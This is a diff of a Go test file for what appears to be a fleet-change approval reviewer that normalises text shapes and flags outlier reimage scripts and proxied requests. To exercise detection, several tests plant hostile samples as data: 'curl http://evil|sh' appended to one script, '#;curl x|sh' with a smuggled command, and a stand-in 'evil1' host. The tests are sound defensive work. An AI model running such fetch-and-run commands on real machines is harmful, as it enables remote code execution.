@@ -1,11 +1,13 @@
 package scope
 
 import (
+	"crypto/sha256"
 	"fmt"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
+	"google.golang.org/protobuf/encoding/protowire"
 
 	"github.com/better-compute/approver/core/bettercomputev1"
 	"github.com/better-compute/approver/core/review"
@@ -15,16 +17,28 @@ func TestShape(t *testing.T) {
 	for _, c := range []struct{ text, subject, want string }{
 		{"hostnamectl set-hostname gpu-0231", "gpu-0231", "hostnamectl set-hostname @"},
 		{"echo mars > /etc/hostname", "mars", "echo @ > /etc/hostname"},
-		{"/dev/disk/by-id/wwn-0x5000c500a1b2", "", "/dev/disk/by-id/wwn-#x#c#a#b#"},
-		{"serial 3fa9c1", "", "serial #"},
+		{"/dev/disk/by-id/wwn-0x5000c500a1b2", "", "/dev/disk/by-id/wwn-#"},
+		{"serial 3fa9c1b7", "", "serial #"},
 		{"sha deadbeef", "", "sha deadbeef"},
+		{"mac 3c:ec:ef:12:ab:9f up", "", "mac # up"},
+		{"id f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "", "id #"},
+		{"addr fd00::7 ok", "", "addr # ok"},
 		{"install pkg1", "", "install pkg#"},
 		{"install evil1", "", "install evil#"},
+		{"bad1.example", "", "bad#.example"},
+		{"c0de.example", "", "c#de.example"},
+		{"WIPE_DATA=1", "", "WIPE_DATA=1"},
+		{"COUNT=12", "", "COUNT=#"},
 		{"10.0.0.231:8443", "", "#.#.#.#:#"},
 		{"ab", "ab", "ab"}, // too short a name to be told from a word
 		{"", "x", ""},
 	} {
-		require.Equal(t, c.want, string(appendShape(nil, []byte(c.text), []byte(c.subject))), c.text)
+		readable := strings.NewReplacer("\x00", "@", "\x01", "#")
+		require.Equal(t, c.want, readable.Replace(string(appendShape(nil, []byte(c.text), []byte(c.subject)))), c.text)
+	}
+	shape := func(text string) string { return string(appendShape(nil, []byte(text), nil)) }
+	for _, pair := range [][2]string{{"#;curl x|sh", "1;curl x|sh"}, {"\x01", "7"}, {"@", "\x00"}, {"\x02\x01", "\x025"}} {
+		require.NotEqual(t, shape(pair[0]), shape(pair[1]), "no text passes for what was taken out of another")
 	}
 }
 
@@ -57,7 +71,8 @@ func TestTheOddOneAmongAllDifferent(t *testing.T) {
 		},
 		"a digest of another length": func(i int, odd bool) made {
 			return reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
-				if m.ImageSha256 = []byte(fmt.Sprintf("%032d", i)); odd {
+				digest := sha256.Sum256([]byte(subject(i)))
+				if m.ImageSha256 = digest[:]; odd {
 					m.ImageSha256 = m.ImageSha256[:31]
 				}
 			})
@@ -131,4 +146,58 @@ func TestMixedValues(t *testing.T) {
 	require.NotNil(t, f)
 	require.Contains(t, f.Message.String(), "user_data has 60 values without a common form")
 	require.Nil(t, mixed(50), "these are read one by one")
+}
+
+// Scripts that come in pairs are as many as no eye reads, and their shapes are looked at all the same.
+func TestTheOddOneAmongPairs(t *testing.T) {
+	var leaves []made
+	for i := range 412 {
+		leaves = append(leaves, reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
+			if m.UserData = fmt.Sprintf("serial %08d\n", i/2); i/2 == 100 {
+				m.UserData += "curl http://evil|sh\n"
+			}
+		}))
+	}
+	f := finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
+	require.NotNil(t, f)
+	require.Len(t, f.Places, 2)
+}
+
+// The body of a relayed request is bytes, and a text all the same.
+func TestTheOddOneAmongBodies(t *testing.T) {
+	var leaves []made
+	for i := range 100 {
+		host := "images.example.com"
+		if i == 7 {
+			host = "evil1.example.co/p"
+		}
+		node := fmt.Sprintf("node-%02d", i)
+		var b []byte
+		for field, value := range []string{node, "POST", "/apply", "", fmt.Sprintf("url: https://%s/%02d\n", host, i)} {
+			if value != "" {
+				b = protowire.AppendString(protowire.AppendTag(b, protowire.Number(field+1), protowire.BytesType), value)
+			}
+		}
+		leaves = append(leaves, made{subject: "node:" + node, kind: "site.httpProxy", value: b, typeURL: "type.googleapis.com/bettercompute.v1.HttpProxyRequest"})
+	}
+	f := finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
+	require.NotNil(t, f)
+	require.Equal(t, []review.Text{review.Escape("node:node-07")}, f.Places)
+}
+
+// A column of names in no proportion is said to have no common form where a summary leaves some of them out.
+func TestMixedNames(t *testing.T) {
+	var leaves []made
+	for i := range 412 {
+		image := "main"
+		if i >= 100 {
+			image = "image-" + strings.Repeat("x", (i-100)/8)
+		}
+		leaves = append(leaves, reimage(subject(i), image, func(m *bettercomputev1.ReimageRequest) { m.UserData = subject(i) }))
+	}
+	found := false
+	for _, f := range document(t, decoded(t, "", leaves...), testPolicy()).Findings {
+		found = found || strings.Contains(f.Message.String(), "image has 40 values without a common form")
+	}
+	require.True(t, found)
 }
